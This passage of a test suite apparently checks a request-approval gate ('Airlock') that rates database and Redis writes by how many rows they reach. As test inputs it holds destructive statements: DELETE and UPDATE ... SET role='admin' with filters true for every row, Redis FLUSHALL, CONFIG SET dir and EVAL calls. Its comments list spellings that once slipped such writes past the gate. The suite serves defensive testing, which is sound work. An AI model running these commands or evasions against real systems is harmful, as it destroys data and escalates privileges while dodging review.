  if (missingPostgres()) return;
  // On a real PostgreSQL, each takes every integer row, the extremes too.
  const pg = await startPostgres(t);
  const client = new pgLib.Client({ connectionString: pg.url() });
  await client.connect();
  t.teardown(() => client.end());
  await client.query(`CREATE TABLE users (id bigint, n numeric(20, 0));
    INSERT INTO users VALUES (9223372036854775807, 18446744073709551615), (-9223372036854775808, -18446744073709551615), (0, 0), (1, 1)`);
  // (`id < '1e30'` is refused for a bigint, as text that is no integer; a numeric column takes it.)
  const run = [...pastEveryInteger, ...computedPastEveryInteger.filter((w) => !/0x|_/.test(w))].map((w) => w.replace("id < '1e30'", "n < '1e30'"));
  const { rows } = await client.query(`SELECT ${run.map((w, j) => `count(*) FILTER (WHERE ${w})::int AS c${j}`).join(', ')} FROM users`);
  run.forEach((w, j) => t.equal(rows[0][`c${j}`], 4, w));
  // Twenty-fifth pass (this server reused): each of keyedEveryRow's and valuedEveryRow's conditions
  // takes every row of a real table keyed from 1.
  await client.query(`CREATE SCHEMA p25; SET search_path = p25;
    CREATE TABLE users (id bigint, user_id bigint, account_id bigint, pk bigint, "userId" bigint, org_id bigint, uuid uuid, active boolean, created_at timestamptz);
    INSERT INTO users SELECT i, i, i, i, i, i % 3 + 1, gen_random_uuid(), i % 2 = 0, now() - i * interval '1 day' FROM unnest(ARRAY[1, 2, 3, 7, 1000]) i;
    CREATE SEQUENCE users_id_seq; SELECT setval('users_id_seq', 1000)`);
  const p25 = [...['id', 'user_id', '"userId"', 'account_id', 'pk'].flatMap((k) => keyedEveryRow(k).map((f) => f.where)), ...valuedEveryRow];
  const { rows: r25 } = await client.query(`SELECT ${p25.map((w, j) => `count(*) FILTER (WHERE ${w})::int AS c${j}`).join(', ')} FROM users`);
  p25.forEach((w, j) => t.equal(r25[0][`c${j}`], 5, `PostgreSQL: ${w}`));
});

t.test('twenty-second pass: PostgREST filters are judged as the SQL condition PostgREST runs', async (t) => {
  // A PATCH to Supabase's REST API was judged by a list of filter spellings: `id=gt.-1000000000000`,
  // `created_at=lt.infinity`, `score=lt.Infinity`, `email=gte.`, `email=match.(?:)`,
  // `id=not.lt.-1000000000000`, `not.or=(id.lt.-1000000000000)`, an `or` with such a branch, each
  // true for every row, were narrow updates (medium) while their SQL twins are destructive.
  const wide = fc.constantFrom('id=gt.-1000000000000', 'id=gte.-9223372036854775808', 'created_at=lt.infinity', 'score=lt.Infinity', 'score=gt.-Infinity', 'email=gte.', 'email=match.(?:)', 'email=imatch.a|', 'id=not.lt.-1000000000000', 'not.or=(id.lt.-1000000000000)', 'or=(id.gt.-1000000000000,id.eq.5)', 'and=(id.gt.-1000000000000,created_at.lt.infinity)');
  // Beside a selection or an embedded resource's filter, which narrow no row of the table.
  const beside = fc.constantFrom('', '&select=id', '&orders.id=eq.1');
  await fc.assert(
    fc.asyncProperty(wide, beside, async (filter, more) => {
      const { decision } = await decide({ method: 'PATCH', url: `https://abcdefghijklmnopqrst.supabase.co/rest/v1/users?${filter}${more}`, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ role: 'admin' }) });
      if (decision.approval?.risk !== 'critical') throw new Error(`${filter}${more}: ${decision.action} ${decision.approval?.risk ?? ''}`);
    }),
    { numRuns: Math.min(runs, 30), ...seed },
  );
  // Controls: filters that name rows, the clock, and operators not written as SQL (full text, arrays, JSON paths) stay narrow.
  for (const filter of ['id=eq.5', 'age=gt.65', 'status=in.(a,b)', 'deleted_at=is.null', 'name=ilike.*john*', 'expires_at=lt.now()', 'expires_at=lte.today', 'email=fts.word', 'tags=cs.{a}', 'data->>k=eq.x', 'id=eq.5&created_at=lt.infinity', 'or=(id.eq.1,id.eq.2)']) {
    const { decision } = await decide({ method: 'PATCH', url: `https://abcdefghijklmnopqrst.supabase.co/rest/v1/users?${filter}`, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ role: 'admin' }) });
    t.equal(decision.approval?.risk, 'medium', filter);
  }
});

/** PostgREST filters that hold for every row (none at all among them), and ones that name rows. */
const postgrestWide = ['', 'id=gt.-1000000000000', 'created_at=lt.infinity', 'email=gte.', 'email=match.(?:)', 'name=like.*', 'id=not.eq.5', 'id=not.is.null', 'or=(id.eq.5,id.not.is.null)', 'not.or=(id.lt.-1000000000000)'];
const postgrestNarrow = ['id=eq.5', 'age=gt.65', 'status=in.(a,b)', 'deleted_at=is.null', 'expires_at=lt.now()', 'or=(id.eq.1,id.eq.2)'];

t.test('twenty-third pass: a self-hosted PostgREST on a host no module owns is read as the SQL it runs', async (t) => {
  // Left open by the twenty-second pass: `DELETE https://<allowed host>/rest/v1/users` (no filter:
  // every row), `PATCH /users?id=gt.-1000000000000` with `Prefer: tx=commit`, `Content-Profile`
  // or `Accept: application/vnd.pgrst.object+json` were plain medium writes, as `DELETE /users?id=eq.5`
  // is: PostgREST was read as SQL only on Supabase's hosts.
  const place = fc.constantFrom<[string, Array<[string, string]>]>(
    ['/rest/v1/users', []], ['/api/rest/v1/users', []], ['/users', [['Prefer', 'tx=commit']]], ['/users', [['Prefer', 'return=minimal, count=exact']]],
    ['/db/users', [['Content-Profile', 'public']]], ['/users', [['Accept', 'application/vnd.pgrst.object+json']]], ['/users', [['Prefer', 'max-affected=1000000']]],
  );
  await fc.assert(
    fc.asyncProperty(place, fc.constantFrom(...postgrestWide), fc.constantFrom('', 'select=id'), fc.boolean(), async ([path, headers], filter, more, update) => {
      const query = [filter, more].filter(Boolean).join('&');
      const url = `https://${SQL_HOST}${path}${query ? `?${query}` : ''}`;
      const { decision } = await decide(update ? { method: 'PATCH', url, headers: [['Content-Type', 'application/json'], ...headers], body: JSON.stringify({ role: 'admin' }) } : { method: 'DELETE', url, headers });
      if (decision.approval?.risk !== 'critical') throw new Error(`${update ? 'PATCH' : 'DELETE'} ${url} ${JSON.stringify(headers)}: ${decision.action} ${decision.approval?.risk ?? ''}`);
    }),
    { numRuns: Math.min(runs, 40), ...seed },
  );
  // A filter in PostgREST's syntax says PostgREST by itself.
  for (const filter of postgrestWide.filter((f) => f.includes('.'))) {
    const { decision } = await decide({ method: 'DELETE', url: `https://${SQL_HOST}/items?${filter}` });
    t.equal(decision.approval?.risk, 'critical', `DELETE /items?${filter}`);
  }
  // Controls: filters that name rows stay narrow writes; REST APIs that say nothing of PostgREST
  // (`DELETE /users/5`, OData's `Prefer: return=representation`) are the plain writes they were.
  for (const filter of postgrestNarrow) {
    for (const path of ['/rest/v1/users', '/users']) {
      const { decision } = await decide({ method: 'PATCH', url: `https://${SQL_HOST}${path}?${filter}`, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ role: 'admin' }) });
      t.equal(decision.approval?.risk, 'medium', `PATCH ${path}?${filter}`);
    }
  }
  for (const [method, path, headers] of [['DELETE', '/users/5', []], ['PATCH', "/People('russell')", [['Prefer', 'return=representation']]], ['DELETE', '/items', [['Prefer', 'return=minimal']]], ['DELETE', '/rest/v1/rpc/purge', []]] as Array<[string, string, Array<[string, string]>]>) {
    const { decision, description } = await decide({ method, url: `https://${SQL_HOST}${path}`, headers: [['Content-Type', 'application/json'], ...headers], body: method === 'PATCH' ? '{"a":1}' : '' });
    t.equal(decision.approval?.risk, 'medium', `${method} ${path}`);
    t.equal(description.sql, undefined, `${method} ${path}: no SQL`);
  }
});

t.test('twenty-second pass: on a real PostgreSQL, each bound past every value holds for every row', { skip: missingPostgres() }, async (t) => {
  const pg = await startPostgres(t);
  const client = new pgLib.Client({ connectionString: pg.url() });
  await client.connect();
  t.teardown(() => client.end());
  await client.query(`CREATE TABLE users (score float8, amount numeric, email text, created_at timestamptz);
    INSERT INTO users VALUES (1e308, 99999, '', now()), (-1e308, -5, 'zz', '2000-01-01'), (0, 0, E'\\n', now() + interval '100 years')`);
  const { rows } = await client.query(`SELECT ${pastEveryValue.map((w, j) => `count(*) FILTER (WHERE ${w})::int AS c${j}`).join(', ')} FROM users`);
  pastEveryValue.forEach((w, j) => t.equal(rows[0][`c${j}`], 3, w));
  // Twenty-seventh pass: a DELETE through a view the same request made reaches every row of the
  // table below it (the controls some), on this server (the view's own columns are values of every row).
  await client.query('CREATE SCHEMA t27; CREATE TABLE t27.users (id int PRIMARY KEY, email text, role text); INSERT INTO t27.users VALUES (1, \'a\', NULL), (2, \'b\', NULL), (3, \'c\', NULL)');
  for (const [body, where, left] of [...throughViews.map(([b, w]) => [b, w, 0] as const), ...throughViewControls.map(([b, w]) => [b, w, -1] as const)]) {
    await client.query('BEGIN; SET LOCAL search_path = t27');
    try {
      await client.query(`CREATE TEMP VIEW v AS ${body}; DELETE FROM v WHERE ${where}`);
      const { rows: [r] } = await client.query('SELECT count(*)::int AS n FROM t27.users');
      if (left === 0) t.equal(r.n, 0, `every row deleted through ${body} WHERE ${where}`);
      else t.ok(r.n > 0, `control: rows kept through ${body} WHERE ${where}`);
    } finally {
      await client.query('ROLLBACK');
    }
  }
  await client.query('CREATE TABLE t27.orders (id int PRIMARY KEY, user_id int, total int, note text); INSERT INTO t27.orders VALUES (1, 2, 50, \'n\')');
  for (const [sql, left] of [...otherTableOnly.map((q) => [q, 0] as const), ...otherTableControls.map((q) => [q, -1] as const)]) {
    await client.query('BEGIN; SET LOCAL search_path = t27');
    try {
      await client.query(sql);
      const { rows: [r] } = await client.query("SELECT count(*) FILTER (WHERE role IS DISTINCT FROM 'admin' AND role IS DISTINCT FROM 'n')::int AS n FROM t27.users");
      if (left === 0) t.equal(r.n, 0, `every row: ${sql}`);
      else t.ok(r.n > 0, `control, rows kept: ${sql}`);
    } finally {
      await client.query('ROLLBACK');
    }
  }
});

t.test('twenty-second pass: MySQL\'s hexadecimal and bit literals are the strings they spell where a string is wanted', async (t) => {
  // `DELETE FROM users WHERE email LIKE 0x25` (also `0b00100101`: '%') deleted every row of a real
  // MariaDB 10.11 and was a narrow medium write on an endpoint of unknown dialect: SQLite's reading
  // takes `0x25` for the number 37, PostgreSQL 15's for no literal at all.
  const pct = fc.constantFrom('0x25', '0x2525', '0b00100101', '0b100101');
  await fc.assert(
    fc.asyncProperty(pct, fc.constantFrom('LIKE', 'like'), fc.boolean(), async (lit, like, update) => {
      const where = `email ${like} ${lit}`;
      const sql = update ? `UPDATE users SET role = 'admin' WHERE ${where}` : `DELETE FROM users WHERE ${where}`;
      const { decision } = await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql }) });
      if (decision.approval?.risk !== 'critical') throw new Error(`${sql}: ${decision.action} ${decision.approval?.risk ?? ''}`);
    }),
    { numRuns: Math.min(runs, 20), ...seed },
  );
  // Controls: a hex number compared with a number, a pattern that names rows, a hex value set, a name holding 0x.
  for (const sql of ['DELETE FROM users WHERE id = 0x01', 'DELETE FROM users WHERE email LIKE 0x6125', 'UPDATE users SET flags = 0xff WHERE id = 5', 'DELETE FROM t0x25 WHERE id = 1', "DELETE FROM users WHERE email LIKE '0x25'"]) {
    const { decision } = await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql }) });
    t.equal(decision.approval?.risk, 'medium', sql);
  }
});

t.test('twenty-second pass: a Hasura `_cast` applies its operators to the cast column, and bounds past every value hold for every row', async (t) => {
  // `delete_users(where: {id: {_cast: {String: {_like: "%"}}}})` (`id::text LIKE '%'`) was a narrow
  // write: `_cast` read as an operator of its own. Hasura's bounds past every value (`_lt:
  // "infinity"`, `_gte: ""`, `_lt: "NaN"`) are judged by the SQL reader's rule of the same pass.
  const every = ['{id: {_cast: {String: {_like: "%"}}}}', '{id: {_cast: {String: {_regex: ""}}}}', '{id: {_cast: {String: {_gte: ""}}}}', '{created_at: {_lt: "infinity"}}', '{score: {_lt: "NaN"}}', '{email: {_gte: ""}}', '{_not: {id: {_cast: {String: {_eq: "5"}}}}}'];
  await fc.assert(
    fc.asyncProperty(fc.constantFrom(...every), fc.boolean(), async (where, update) => {
      const field = update ? `update_users(where: ${where}, _set: {role: "admin"})` : `delete_users(where: ${where})`;
      const body = JSON.stringify({ query: `mutation { ${field} { affected_rows } }` });
      const { decision } = await decide({ url: `https://${SQL_HOST}/v1/graphql`, headers: [['Content-Type', 'application/json']], body });
      if (decision.approval?.risk !== 'critical') throw new Error(`${body}: ${decision.action} ${decision.approval?.risk ?? ''}`);
    }),
    { numRuns: Math.min(runs, 14), ...seed },
  );
  for (const where of ['{id: {_cast: {String: {_eq: "5"}}}}', '{id: {_cast: {String: {_like: "5%"}}}}', '{geom: {_cast: {geography: {_st_d_within: {distance: 10, from: "x"}}}}}']) {
    const body = JSON.stringify({ query: `mutation { delete_users(where: ${where}) { affected_rows } }` });
    t.equal((await decide({ url: `https://${SQL_HOST}/v1/graphql`, headers: [['Content-Type', 'application/json']], body })).decision.approval?.risk, 'medium', where);
  }
});

t.test('twenty-second pass: Upstash\'s Redis REST API is read as Redis, each command that may write judged as its twin', async (t) => {
  // `POST https://….upstash.io/ ["FLUSHALL"]` (also `/flushall`, `/config/set/dir/tmp`, `EVAL`, a
  // `/pipeline` holding FLUSHDB) on an allowed Upstash host was a plain medium POST (a GET of
  // `/flushall` a medium write by its method override), and a grant for one `SET` covered them.
  const hosts = ['eu1-cool-x.upstash.io', 'my-store.kv.vercel-storage.com'];
  const upstash = await bodyPolicy(t, { allowed_hosts: [SQL_HOST, ...hosts] });
  const shapes = fc.constantFrom(
    (args: string[], host: string) => ({ method: 'POST', url: `https://${host}/`, body: JSON.stringify(args) }),
    (args: string[], host: string) => ({ method: 'POST', url: `https://${host}/pipeline`, body: JSON.stringify([['SET', 'k', 'v'], args]) }),
    (args: string[], host: string) => ({ method: 'POST', url: `https://${host}/multi-exec`, body: JSON.stringify([args]) }),
    (args: string[], host: string) => ({ method: 'GET', url: `https://${host}/${args.map(encodeURIComponent).join('/')}`, body: '' }),
    (args: string[], host: string) => ({ method: 'POST', url: `https://${host}/${args.map(encodeURIComponent).join('/')}`, body: '' }),
  );
  const dangerous = fc.constantFrom<string[]>(['FLUSHALL'], ['flushdb', 'ASYNC'], ['CONFIG', 'SET', 'dir', '/tmp'], ['EVAL', "redis.call('flushall')", '0'], ['SCRIPT', 'FLUSH'], ['SWAPDB', '0', '1'], ['FUNCTION', 'FLUSH']);
  await fc.assert(
    fc.asyncProperty(dangerous, shapes, fc.constantFrom(...hosts), async (args, shape, host) => {
      const r = shape(args, host);
      const { decision } = await upstash({ ...r, headers: r.body ? [['Content-Type', 'application/json']] : [] });
      if (decision.approval?.risk !== 'critical') throw new Error(`${r.method} ${r.url} ${r.body}: ${decision.action} ${decision.approval?.risk ?? ''}`);
    }),
    { numRuns: Math.min(runs, 30), ...seed },
  );
  // Controls: reads stay reads, a narrow write a narrow write.
  const host = hosts[0];
  t.equal((await upstash({ method: 'GET', url: `https://${host}/get/k` })).decision.action, 'allow', 'GET /get/k');
  t.equal((await upstash({ method: 'POST', url: `https://${host}/`, headers: [['Content-Type', 'application/json']], body: '["SET","k","v"]' })).decision.approval?.risk, 'medium', 'SET k v');
  t.equal((await upstash({ method: 'POST', url: `https://${host}/del/a`, body: '' })).decision.approval?.risk, 'medium', 'DEL a');
});

t.test('twenty-third pass: Upstash\'s REST API served by a bridge on a host no module owns is read as Redis in its body forms', async (t) => {
  // A self-hosted serverless-redis-http (what @upstash/redis and Vercel KV are pointed at outside
  // Upstash) on an allowed host: `POST / ["FLUSHALL"]`, a `/pipeline` or `/multi-exec` holding
  // FLUSHDB, `CONFIG SET dir`, `EVAL` were plain medium POSTs, a grant for one `SET` covering them.
  const shapes = fc.constantFrom(
    (args: string[]) => ({ url: `https://${SQL_HOST}/`, body: JSON.stringify(args) }),
    (args: string[]) => ({ url: `https://${SQL_HOST}/pipeline`, body: JSON.stringify([['SET', 'k', 'v'], args]) }),
    (args: string[]) => ({ url: `https://${SQL_HOST}/multi-exec`, body: JSON.stringify([args]) }),
  );
  const dangerous = fc.constantFrom<string[]>(['FLUSHALL'], ['flushdb', 'ASYNC'], ['CONFIG', 'SET', 'dir', '/tmp'], ['EVAL', "redis.call('flushall')", '0'], ['SCRIPT', 'FLUSH'], ['SWAPDB', '0', '1'], ['FUNCTION', 'FLUSH']);
  await fc.assert(
    fc.asyncProperty(dangerous, shapes, fc.boolean(), async (args, shape, bearer) => {
      const r = shape(args);
      const { decision } = await decide({ method: 'POST', ...r, headers: [['Content-Type', 'application/json'], ...(bearer ? [['Authorization', 'Bearer t0ken'] as [string, string]] : [])] });
      if (decision.approval?.risk !== 'critical') throw new Error(`${r.url} ${r.body}: ${decision.action} ${decision.approval?.risk ?? ''}`);
    }),
    { numRuns: Math.min(runs, 30), ...seed },
  );
  // Controls: a write of a key, a read, a JSON array of other words or numbers, the same array to another path: plain writes.
  for (const [path, body] of [['/', '["SET","k","v"]'], ['/', '["CONFIG","GET","dir"]'], ['/', '["red","green"]'], ['/', '[1,2,3]'], ['/', '["save the file"]'], ['/api/items', '["FLUSHALL"]']]) {
    const { decision, description } = await decide({ method: 'POST', url: `https://${SQL_HOST}${path}`, headers: [['Content-Type', 'application/json']], body });
    t.equal(decision.approval?.risk, 'medium', `${path} ${body}`);
    t.equal(description.sql, undefined, `${path} ${body}: no SQL`);
  }
});

t.test('twenty-second pass: a pg_graphql update\'s filter is judged as the SQL condition it runs', async (t) => {
  // Supabase's GraphQL `updateUsersCollection(set: …, filter: {id: {gt: -1000000000000}}, atMost:
  // 100000)` (also `lt: "infinity"`, `gte: ""`, `regex: "(?:)"`, `lt: "NaN"`, `not` of a range
  // below every value, an `or` with such a branch) was a narrow medium update: the filter was
  // judged by a list of spellings, as PostgREST's were.
  const every = ['{id: {gt: -1000000000000}}', '{created_at: {lt: "infinity"}}', '{email: {gte: ""}}', '{email: {regex: "(?:)"}}', '{score: {lt: "NaN"}}', '{id: {gte: "-9223372036854775808"}}', '{or: [{id: {eq: 5}}, {id: {gt: -1000000000000}}]}', '{not: {id: {lt: -1000000000000}}}', '{AND: [{id: {gt: -1000000000000}}]}'];
  const call = (filter: string): Promise<Decided> => decide({ url: 'https://abcdefghijklmnopqrst.supabase.co/graphql/v1', headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: `mutation { updateUsersCollection(set: {role: "admin"}, filter: ${filter}, atMost: 100000) { affectedCount } }` }) });
  await fc.assert(
    fc.asyncProperty(fc.constantFrom(...every), async (filter) => {
      const { decision } = await call(filter);
      if (decision.approval?.risk !== 'critical') throw new Error(`${filter}: ${decision.action} ${decision.approval?.risk ?? ''}`);
    }),
    { numRuns: Math.min(runs, 18), ...seed },
  );
  for (const filter of ['{id: {eq: 5}}', '{age: {gt: 65}}', '{email: {startsWith: "adm"}}', '{and: [{id: {gt: 5}}, {id: {lt: 9}}]}', '{email: {in: []}}', '{tags: {contains: ["a"]}}']) {
    t.equal((await call(filter)).decision.approval?.risk, 'medium', filter);
  }
});

t.test('twenty-second pass: a full-text match of a constant query that negates nothing names rows; a negated one or a JSON path does not', async (t) => {
  // Left open by the twenty-first pass (a false hold): `DELETE FROM posts WHERE to_tsvector(body)
  // @@ to_tsquery('spam')` was held critical on Neon and Supabase, as no proven-narrow form; the
  // negations (`!spam`, websearch's `-spam`) and a JSON path predicate (`@@ 'true'::jsonpath`) must stay held.
  const call = (where: string): Promise<Decided> => decide({ url: NEON, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: `DELETE FROM posts WHERE ${where}`, params: [] }) });
  const narrow = fc.constantFrom("to_tsvector(body) @@ to_tsquery('spam')", "to_tsvector('english', body) @@ to_tsquery('english', 'spam & eggs')", "to_tsvector(body) @@ websearch_to_tsquery('spam eggs')", "search @@ 'spam'::tsquery", "to_tsvector(body) @@ plainto_tsquery('!spam')", "to_tsquery('spam') @@ to_tsvector(body)");
  const every = fc.constantFrom("to_tsvector(body) @@ to_tsquery('!spam')", "to_tsvector(body) @@ to_tsquery('spam | !eggs')", "to_tsvector(body) @@ websearch_to_tsquery('-spam')", "to_tsvector(body) @@ websearch_to_tsquery('spam or -eggs')", "search @@ '!spam'::tsquery", "data @@ 'true'::jsonpath", "data @@ 'exists($)'::jsonpath", "to_tsvector(body) @@ to_tsquery('spam') OR true");
  await fc.assert(fc.asyncProperty(narrow, async (w) => {
    const { decision } = await call(w);
    if (decision.approval?.risk !== 'medium') throw new Error(`${w}: ${decision.action} ${decision.approval?.risk ?? ''}`);
  }), { numRuns: Math.min(runs, 12), ...seed });
  await fc.assert(fc.asyncProperty(every, async (w) => {
    const { decision } = await call(w);
    if (decision.approval?.risk !== 'critical') throw new Error(`${w}: ${decision.action} ${decision.approval?.risk ?? ''}`);
  }), { numRuns: Math.min(runs, 16), ...seed });
  t.pass('judged');
});

/** The clock moved past every timestamp a table plausibly holds, in the direction that takes them all. */
const clockPastEveryRow = fc.record({
  column: fc.constantFrom('created_at', 'expires_at', 'users.created_at'),
  clock: fc.constantFrom('now()', 'CURRENT_TIMESTAMP', 'clock_timestamp()', 'now()::timestamptz', 'LOCALTIMESTAMP'),
  shift: fc.constantFrom("interval '1000 years'", "'1000 years'", "'1000 years'::interval", "interval '1000' year", "interval '21 years'", "interval '1 century'", "'P1000Y'", "'@ 1 mil'",
    "interval '365000 days'", "interval '365000 0:00:00'", "interval '999-0'", "interval '1000 years 1 day'", "'8760000 hours'", "interval '100 decades'", "'1000y'", "(interval '1000 years')"),
  ahead: fc.boolean(),
  clockFirst: fc.boolean(),
});
function clockWhere(c: { column: string; clock: string; shift: string; ahead: boolean; clockFirst: boolean }): string {
  const moved = `${c.clock} ${c.ahead ? '+' : '-'} ${c.shift}`;
  // Ahead: every row is below it; behind: every row is above it.
  const op = c.ahead ? '<' : '>';
  return c.clockFirst ? `${moved} ${op === '<' ? '>' : '<'} ${c.column}` : `${c.column} ${op} ${moved}`;
}
const clockControls = ["created_at < now() - interval '30 days'", "expires_at < now() + interval '7 days'", "expires_at < now() + interval '1 day'", "created_at > now() - interval '5 years'", "expires_at < now() + interval '12 years'",
  "created_at < now() - interval '1000 years'", "created_at > now() + interval '1000 years'", "created_at < CURRENT_DATE - 7", "expires_at < now() + interval '10 years'", "now() - interval '90 days' > created_at"];

t.test('twenty-second pass (follow-up): a column against the clock moved past every stored timestamp holds for every row', async (t) => {
  // Left open by the twenty-second pass: `DELETE FROM users WHERE created_at < now() + interval
  // '1000 years'` was a narrow medium write on Neon, Supabase and an endpoint of unknown dialect (a
  // column against the clock moved by any constant was proven narrow); so was SQLite's
  // `datetime('now', '+1000 years')` on D1. Past CLOCK_REACH_SECONDS (20 years) every plausible row is on one side.
  await fc.assert(
    fc.asyncProperty(clockPastEveryRow, fc.constantFrom(NEON, SUPABASE, GENERIC), fc.boolean(), async (c, url, update) => {
      const where = clockWhere(c);
      const sql = update ? `UPDATE users SET role = 'admin' WHERE ${where}` : `DELETE FROM users WHERE ${where}`;
      const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify(url === NEON ? { query: sql, params: [] } : url === SUPABASE ? { query: sql } : { sql }) });
      if (decision.approval?.risk !== 'critical') throw new Error(`${url} ${sql}: ${decision.action} ${decision.approval?.risk ?? ''}`);
    }),
    { numRuns: Math.min(runs, 60), ...seed },
  );
  // SQLite's clock on D1 and an unknown endpoint: its modifiers and a number added to julianday/unixepoch.
  const sqlite = fc.constantFrom("created_at < datetime('now', '+1000 years')", "created_at < date('now', '+365000 days')", "created_at > datetime('now', '-1000 years')", "created_at < datetime('now', 'start of day', '+21 years')",
    "created_at < datetime('now', '+0999-00-00')", "created_at < strftime('%Y-%m-%d', 'now', '+1000 years')", 'created_at < unixepoch() + 1000000000000', "created_at < julianday('now') + 365000", "datetime('now', '+1000 years') > created_at");
  await fc.assert(
    fc.asyncProperty(sqlite, fc.constantFrom(D1, GENERIC), async (where, url) => {
      const sql = `DELETE FROM users WHERE ${where}`;
      const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql }) });
      if (decision.approval?.risk !== 'critical') throw new Error(`${url} ${sql}: ${decision.action} ${decision.approval?.risk ?? ''}`);
    }),
    { numRuns: Math.min(runs, 18), ...seed },
  );
  // Controls: cut-offs the data decides stay narrow (a far shift the other way names no row).
  for (const where of clockControls) {
    for (const url of [NEON, SUPABASE]) {
      const body = url === NEON ? { query: `DELETE FROM users WHERE ${where}`, params: [] } : { query: `DELETE FROM users WHERE ${where}` };
      t.equal((await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify(body) })).decision.approval?.risk, 'medium', `${url} ${where}`);
    }
  }
  for (const where of ["created_at < datetime('now', '-30 days')", "expires_at < datetime('now', '+7 days')", "created_at < datetime('now', 'start of month')"]) {
    t.equal((await decide({ url: D1, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql: `DELETE FROM users WHERE ${where}` }) })).decision.approval?.risk, 'medium', `D1 ${where}`);
  }
  // MySQL's `INTERVAL 30 DAY` (a bare number, which no other grammar reads) on an endpoint of unknown
  // dialect: a cut-off names rows (it was held as unread), a shift past every row does not (checked on MariaDB 10.11).
  const mysql: Array<[string, string]> = [['created_at < NOW() - INTERVAL 30 DAY', 'medium'], ['expires_at < now() + interval 7 day', 'medium'], ['created_at < NOW() - INTERVAL 2 QUARTER', 'medium'],
    ['created_at < NOW() + INTERVAL 1000 YEAR', 'critical'], ['created_at > NOW() - INTERVAL 100 YEAR', 'critical'], ['created_at < NOW() + INTERVAL 80 QUARTER', 'critical']];
  for (const [where, risk] of mysql) {
    t.equal((await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql: `DELETE FROM users WHERE ${where}` }) })).decision.approval?.risk, risk, `MySQL ${where}`);
  }
});

/** Conditions MySQL joins with `&&` (AND) where PostgreSQL's grammar puts its `&&` over a number or truth value. */
const andLeft = ['id = 5', 'id IN (1, 2)', 'tenant_id = 7', 'score > 2.5', 'active = TRUE', 'deleted_at IS NULL', 'id BETWEEN 1 AND 9'];
const andRight = ['id = 5', "email = 'a@b'", 'id IN (1, 2)', 'tenant_id = 7', "name LIKE 'adm%'", 'deleted_at IS NULL'];

t.test('twenty-second pass (follow-up): MySQL\'s `&&` is AND, so two conditions joined by it name rows on an endpoint of unknown dialect', async (t) => {
  // Left open by the twenty-second pass (a false hold): `DELETE FROM users WHERE id = 5 && status =
  // 1` deletes one row of a real MariaDB 10.11 (in every sql_mode, ANSI too), while no grammar Airlock
  // read it with parsed it (PostgreSQL's `&&` binds tighter than `=`), so it was held critical as unread.
  // PostgreSQL's grammar reads `id = 5 && id IN (1, 2)` as `id = (5 && id) …`, an operator it has
  // not over a number or a truth value: it refuses the statement, so MySQL's reading stands.
  const left = fc.constantFrom(...andLeft);
  const right = fc.constantFrom(...andRight);
  const spacing = fc.constantFrom('&&', ' && ', '\n&&\n', ' /* x */ && ');
  await fc.assert(
    fc.asyncProperty(left, right, spacing, fc.boolean(), fc.constantFrom('sql', 'query'), async (a, b, op, update, key) => {
      const where = `${a}${op}${b}`;
      const sql = update ? `UPDATE users SET role = 'admin' WHERE ${where}` : `DELETE FROM users WHERE ${where}`;
      const { decision } = await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ [key]: sql }) });
      if (decision.approval?.risk !== 'medium') throw new Error(`${sql}: ${decision.action} ${decision.approval?.risk ?? ''}`);
    }),
    { numRuns: Math.min(runs, 30), ...seed },
  );
  // Controls: AND of conditions every row meets, and `||` beside it, are still every row.
  for (const where of ['1 && 1', 'id = id && TRUE', 'id = 5 && status = 1 || 1', "email LIKE '%' && id > id - 1", 'NOT FALSE && 2 > 1']) {
    const { decision } = await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql: `DELETE FROM users WHERE ${where}` }) });
    t.equal(decision.approval?.risk, 'critical', where);
  }
});

/** A JSON member by a constant key equal to one value: names the rows holding it. */
const jsonKeyed = ["data->>'id' = '5'", "data->'id' = '5'", "(data->>'id')::int = 5", "data->'a'->>'b' = 'x'", "data #>> '{a,b}' = 'x'", "data ->> 'id' = $$5$$", "'5' = data->>'id'", "data->>'id' IN ('5', '6')"];

t.test('twenty-second pass (follow-up): an equality on a JSON member names rows, though SQLite\'s samples are no JSON', async (t) => {
  // Left open by the twenty-second pass (a false hold): `DELETE FROM users WHERE data->>'id' = '5'`
  // was held critical on Neon, Supabase, D1 and an unknown endpoint: SQLite's sample run failed on
  // its text samples (malformed JSON) and a failed run counted as every row; a cast (`(data->>'id')::int`),
  // a path (`#>>`) or a nested member was no keyed column either.
  await fc.assert(
    fc.asyncProperty(fc.constantFrom(...jsonKeyed), fc.constantFrom(NEON, SUPABASE, GENERIC), fc.boolean(), async (where, url, update) => {
      const sql = update ? `UPDATE users SET role = 'admin' WHERE ${where}` : `DELETE FROM users WHERE ${where}`;
      const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify(url === NEON ? { query: sql, params: [] } : url === SUPABASE ? { query: sql } : { sql }) });
      if (decision.approval?.risk !== 'medium') throw new Error(`${url} ${sql}: ${decision.action} ${decision.approval?.risk ?? ''}`);
    }),
    { numRuns: Math.min(runs, 30), ...seed },
  );
  // SQLite's own spellings on D1 and an unknown endpoint.
  for (const where of ["data->>'$.id' = '5'", "json_extract(data, '$.id') = 5", "data->>'id' = '5'", "json_extract(data, '$.a.b') = 'x'"]) {
    for (const url of [D1, GENERIC]) {
      const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql: `DELETE FROM users WHERE ${where}` }) });
      t.equal(decision.approval?.risk, 'medium', `${url} ${where}`);
    }
  }
  // Controls: JSON conditions every row may meet stay held.
  for (const where of ["data->>'id' <> '5'", "NOT (data->>'id' = '5')", "data->>'id' IS NULL", "json_extract(data, '$.id') IS NULL OR 1", "data->>'id' = data->>'id'", "(data->>'id')::bool = true OR true", "json_type(data) IS NOT NULL"]) {
